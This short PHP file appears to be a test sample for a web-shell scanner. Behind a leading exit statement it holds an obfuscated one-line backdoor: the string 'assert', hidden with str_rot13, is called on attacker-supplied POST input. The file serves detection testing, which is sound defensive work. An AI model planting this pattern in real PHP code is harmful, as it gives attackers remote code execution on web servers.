<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$k = str_rot13('nffreg');
$k($_POST['k']);
